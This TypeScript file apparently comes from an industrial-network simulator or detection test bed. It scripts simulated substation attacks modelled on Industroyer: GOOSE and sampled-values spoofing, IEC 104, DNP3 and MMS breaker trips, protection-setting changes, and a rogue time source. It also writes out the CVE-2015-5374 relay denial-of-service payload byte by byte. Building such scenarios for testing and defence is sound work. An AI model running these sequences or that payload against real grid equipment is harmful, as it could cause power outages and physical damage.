/** Attacks on the substation, from public analyses of Industroyer, Industroyer2 and attacks on IEC 61850. */
import { ByteWriter } from '#bytes/write'
import * as dnp3 from '#protocols/dnp3/testing/encode'
import * as mms from '#protocols/mms/testing/encode'
import { beginDnp3, control } from '../../conversations/dnp3.ts'
import { begin104, CAUSE, interrogation } from '../../conversations/iec104.ts'
import { beginMms } from '../../conversations/mms.ts'
import { milliseconds, seconds } from '../../network/scheduler.ts'
import type { PlantStep } from '../../network/step.ts'
import type { PlantWorld } from '../../network/world.ts'
import { attack } from '../kit/intrusions.ts'
import type { Substation } from './site.ts'
import {
  enableReports,
  identifyRelay,
  listNames,
  operate,
  readFile,
  sendClock,
  sendGoose,
  sendSamples,
} from './talk.ts'
import { command104, inspectRelays, interrogate } from './work.ts'

const COLD_RESTART = 13
const DISABLE_UNSOLICITED = 21
const DIRECT_OPERATE = 5
const POINTS = [
  'CSWI1$ST$Pos$stVal',
  'MMXU1$MX$TotW$mag$f',
  'PTOC1$SP$StrVal$setMag$f',
  'PTRC1$ST$Tr$general',
  'XCBR1$ST$Pos$stVal',
]

export function substationAttacks(site: Substation): PlantStep<PlantWorld>[] {
  const { plan, bays, gateway, centres, bayZone, stationZone, wanZone, engineering, hmis } = site
  const bay = bays[1]!
  const third = bays[2]!
  const inBays = plan.unknownClient(bayZone, 245)
  const inStation = plan.unknownClient(stationZone, 246)
  const inWan = plan.unknownClient(wanZone, 247)
  return [
    attack({
      id: 'goose-spoof',
      kind: 'A',
      technique: 'T1692.002',
      actor: inBays,
      victims: [bay.relay],
      acts: ['forge'],
      *play(world) {
        const forged = {
          ...bay,
          stateNumber: bay.stateNumber + 9000,
          sequenceNumber: 0,
          isClosed: false,
          changedAt: world.now,
        }
        for (let i = 0; i < 25; i++) {
          sendGoose(world, inBays, forged, true)
          forged.sequenceNumber++
          yield milliseconds(i < 5 ? 4 : 600)
        }
      },
    }),
    attack({
      id: 'goose-spoof-from-relay-address',
      kind: 'L',
      technique: 'T1692.002',
      actor: third.relay,
      victims: [third.relay],
      acts: ['forge'],
      *play(world) {
        const forged = {
          ...third,
          stateNumber: third.stateNumber + 1,
          sequenceNumber: 0,
          isClosed: false,
          changedAt: world.now,
        }
        for (let i = 0; i < 40; i++) {
          sendGoose(world, third.relay, forged, true)
          forged.sequenceNumber++
          // The relay goes on: its next heartbeats fall into this time.
          yield i < 5 ? milliseconds(4) : Math.max(milliseconds(900), world.cycle(0.3))
        }
      },
    }),
    attack({
      id: 'sampled-values-spoof',
      kind: 'A',
      technique: 'T1692.002',
      actor: inBays,
      victims: [site.mergingUnits[0]!],
      acts: ['forge'],
      *play(world) {
        for (let count = 30_000; count < 30_040; count++) {
          sendSamples(world, inBays, {
            id: 'MU0101',
            index: 0,
            count,
            values: [9e6, -9e6, -9e6, 0, 1e6, 1e6, 1e6, 0],
          })
          yield milliseconds(250)
        }
      },
    }),
    attack({
      id: '104-breakers-unknown-client',
      kind: 'A',
      technique: 'T1692.001',
      actor: inStation,
      victims: [gateway],
      acts: ['command'],
      *play(world) {
        const talk = yield* begin104(world, inStation, gateway)
        yield* interrogate(world, talk, site)
        for (const i of bays.keys()) {
          yield* command104(talk, site, i, false)
          yield seconds(1)
        }
        yield* talk.connection.close()
        yield seconds(30)
        for (const one of bays) one.isClosed = true
      },
    }),
    attack({
      id: '104-breakers-standby-centre',
      kind: 'L',
      technique: 'T1692.001',
      actor: centres[1],
      victims: [gateway],
      acts: ['command'],
      *play(world) {
        const talk = yield* begin104(world, centres[1], gateway)
        for (let round = 0; round < 2; round++)
          for (const i of bays.keys()) {
            yield* command104(talk, site, i, round === 1)
            yield milliseconds(400)
          }
        yield* talk.connection.close()
      },
    }),
    attack({
      id: '104-station-sweep',
      kind: 'A',
      technique: 'T0846',
      actor: inWan,
      victims: [gateway],
      acts: ['scan', 'list-points', 'read-values'],
      *play(world) {
        const talk = yield* begin104(world, inWan, gateway)
        for (let address = 1; address <= 30; address++) {
          // Unknown common address: cause 46, IEC 60870-5-101 §7.2.3.
          if (address === site.commonAddress) yield* interrogate(world, talk, site)
          else
            yield* talk.ask(interrogation(address, CAUSE.activation), {
              ...interrogation(address, 46),
              isNegative: true,
            })
          yield milliseconds(200)
        }
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'mms-points-listed',
      kind: 'A',
      technique: 'T0861',
      actor: inStation,
      victims: [bay.relay],
      acts: ['list-points', 'identify'],
      *play(world) {
        const talk = yield* beginMms(world, inStation, bay.relay)
        yield* identifyRelay(talk, bay)
        yield* listNames(talk, bay, POINTS)
        for (const point of POINTS) yield* talk.reads(`${bay.name}LD0`, point, mms.float(1))
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'mms-breaker-unknown-client',
      kind: 'A',
      technique: 'T1692.001',
      actor: inStation,
      victims: [bays[3]!.relay],
      acts: ['command'],
      *play(world) {
        const talk = yield* beginMms(world, inStation, bays[3]!.relay)
        yield* operate(talk, bays[3]!, false, 1, 3)
        bays[3]!.isClosed = false
        yield seconds(20)
        bays[3]!.isClosed = true
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'protection-setting-changed',
      kind: 'L',
      technique: 'T0836',
      actor: engineering,
      victims: [bay.relay],
      acts: ['protection', 'set-point'],
      *play(world) {
        const talk = yield* beginMms(world, engineering, bay.relay)
        yield* talk.reads(`${bay.name}LD0`, 'PTOC1$SP$StrVal$setMag$f', mms.float(1.2))
        yield* talk.writes(`${bay.name}LD0`, 'PTOC1$SP$StrVal$setMag$f', mms.float(40))
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'reports-disabled',
      kind: 'A',
      technique: 'T1691.002',
      actor: inStation,
      victims: [third.relay],
      acts: ['silence'],
      *play(world) {
        const talk = yield* beginMms(world, inStation, third.relay)
        yield* enableReports(talk, third, false)
        yield seconds(3)
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'relay-files-read',
      kind: 'A',
      technique: 'T0893',
      actor: inStation,
      victims: [bays[4]!.relay],
      acts: ['read-file'],
      *play(world) {
        const talk = yield* beginMms(world, inStation, bays[4]!.relay)
        for (const file of ['COMTRADE/FRA00041.dat', 'SETTINGS/SET_1.TXT'])
          yield* readFile(talk, file, world.random(file).bytes(9000))
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'dnp3-trip-and-silence',
      kind: 'A',
      technique: 'T1692.001',
      actor: inWan,
      victims: [gateway],
      acts: ['command', 'silence'],
      *play(world) {
        const talk = yield* beginDnp3(world, inWan, gateway, [3, site.dnpAddresses[1]])
        yield* talk.ask(DISABLE_UNSOLICITED, [dnp3.classes(1, 2, 3)], [])
        yield seconds(1)
        for (const index of [0, 1, 2])
          yield* talk.ask(DIRECT_OPERATE, [control(index, 0x81)], [control(index, 0x81)])
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'dnp3-cold-restart',
      kind: 'L',
      technique: 'T0816',
      actor: site.dnpMaster,
      victims: [gateway],
      acts: ['restart'],
      *play(world) {
        const talk = yield* beginDnp3(world, site.dnpMaster, gateway, site.dnpAddresses)
        const delay = dnp3.counted(52, 2, 1, new ByteWriter().u16le(5000).take())
        for (let i = 0; i < 3; i++) {
          yield* talk.ask(COLD_RESTART, [], [delay])
          yield seconds(5)
        }
        yield* talk.connection.close()
      },
    }),
    attack({
      id: 'rogue-grandmaster',
      kind: 'A',
      technique: 'T0830',
      actor: inStation,
      victims: [site.clocks[0]!],
      acts: ['time-spoof'],
      *play(world) {
        for (let sequence = 1; sequence < 30; sequence++) {
          sendClock(world, inStation, sequence)
          yield seconds(1)
        }
      },
    }),
    attack({
      // CVE-2015-5374, as Industroyer sent it: eighteen bytes to UDP port 50000 of a SIPROTEC relay.
      id: 'relay-denial-of-service',
      kind: 'A',
      technique: 'T0814',
      actor: inStation,
      victims: [bays[0]!.relay],
      acts: ['flood'],
      *play(world) {
        const payload = new ByteWriter().u8(0x11, 0x49).zeros(14).u8(0x28, 0x9e).take()
        const from = { host: inStation, port: world.network.freePort(inStation) }
        for (let i = 0; i < 4; i++) {
          yield* world.network.udp(from, { host: bays[0]!.relay, port: 50_000 }, payload)
          yield milliseconds(300)
        }
      },
    }),
    attack({
      id: 'hmi-engineers-relays',
      kind: 'L',
      technique: 'T0836',
      actor: hmis[1],
      victims: bays.map(({ relay }) => relay),
      acts: ['set-point', 'protection'],
      *play(world) {
        yield* inspectRelays(world, site, hmis[1])
        const last = bays.at(-1)!
        const talk = yield* beginMms(world, hmis[1], last.relay)
        yield* talk.writes(`${last.name}LD0`, 'PTOC1$SP$OpDlTmms$setVal', mms.signed(60_000))
        yield* talk.connection.close()
      },
    }),
  ]
}
